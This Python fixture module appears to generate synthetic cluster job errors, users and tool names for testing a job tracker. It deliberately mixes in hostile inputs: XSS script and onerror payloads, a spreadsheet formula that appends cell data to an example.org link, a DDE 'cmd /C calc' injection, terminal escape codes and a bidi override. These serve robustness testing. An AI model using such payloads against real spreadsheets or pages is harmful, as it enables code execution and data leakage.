"""What people call things in a big database, and what failed attempts say; some of it is hostile."""

from __future__ import annotations

FRAMES = """Traceback (most recent call last):
  File "/home/{user}/code/{tool}/{template}.py", line {line}, in main
    draws = load(location_id={number}, year_id={year})
  File "/home/{user}/code/{tool}/io.py", line 88, in load
    return frame.loc[key]
"""

#: how often, by the verdict on the attempt
SAID = {
    "application error": (
        (30, FRAMES + "KeyError: 'location {number}'"),
        (20, FRAMES + "ValueError: could not convert string to float: 'draw_{number}'"),
        (15, FRAMES + "FileNotFoundError: [Errno 2] No such file or directory: '/share/{tool}/draws_{number}.h5'"),
        (12, "Error in rbindlist(results) : Item {number} has 12 columns, inconsistent with item 1\nExecution halted"),
        (10, FRAMES + "OSError: [Errno 28] No space left on device: '/scratch/{user}/{number}.tmp'"),
        (6, FRAMES + "sqlalchemy.exc.OperationalError: (2013, 'Lost connection to server during query')"),
        (5, "variable mean_{number} not found\nr(111);"),
        (4, "Floating point exception (core dumped)"),
        (3, FRAMES + "AssertionError: {number} draws are negative, the least is -0.00{year}"),
        (2, "\x1b[31mERROR\x1b[0m model did not converge after {number} iterations \x1b]0;title\x07"),
        (1, "<script>document.title='owned'</script><img src=x onerror=alert({number})>\nError: &lt;b&gt; \u202egnp"),
        (1, "ERROR " + "A" * 40_000 + " {number}"),
        (1, '=HYPERLINK("http://example.org/?"&A1,"error {number}")\n@SUM(1+1)*cmd|\' /C calc\'!A0'),
        (1, "\ufffd\ufffd\x01\x02\x1b[2J\x1b[1;1H binary \x7fELF \u0000".replace("\u0000", "") + " at {number}"),
    ),
    "out of memory": (
        (1, "slurmstepd-c{node}: error: Detected 1 oom_kill event in StepId={number}.batch. Some were OOM Killed."),
    ),
    "out of time": ((1, "slurmstepd-c{node}: error: *** JOB {number} ON c{node} CANCELLED DUE TO TIME LIMIT ***"),),
    "node failed": ((1, "The node c{node} failed while the job ran."),),
    "lost": ((1, "Nothing was heard of it any more, and the cluster does not know it."),),
    "killed": ((1, "Stopped on request."),),
}  # fmt: skip

CODES = {"application error": 1, "out of memory": 137, "done": 0}

USERS = ("amelie", "bzhang", "chidi", "dmitri", "eleni", "fatima", "goran", "hana", "svc_modeling")

TOOLS = {
    "codcorrect": ("burden", "rates", "squeeze"),
    "dismod_at": ("diabetes", "copd", "stroke", "asthma"),
    "burdenator": ("gbd 2025", "gbd 2023", "forecast"),
    "epi_como": ("incidence", "prevalence"),
    "covid_scenarios": ("weekly", "nightly", "reference"),
    "imputation": ("multiple", "chained"),
    "genomics_qc": ("trio calling", "cohort", "panel"),
    "satellite": ("night lights", "land use"),
    "small_area": ("counties", "districts"),
    '<img src=x onerror="alert(1)">': ("=1+1|'&\"<b>", "\u202eworkflow \U0001f9ec \x1b[31mred"),
}

CAUSES = (
    *("Priority", "Resources", "QOSMaxCpuPerUserLimit", "AssocGrpMemLimit"),
    "ReqNodeNotAvail, UnavailableNodes:c[1201-1204]",
)

ATTRIBUTES = {
    "release": ("16", "18", "21"),
    "project": ("proj_burden", "proj_covid", "proj_sae"),
    "purpose": ("production", "test", "for <Ms. O'Neil> & friends"),
}
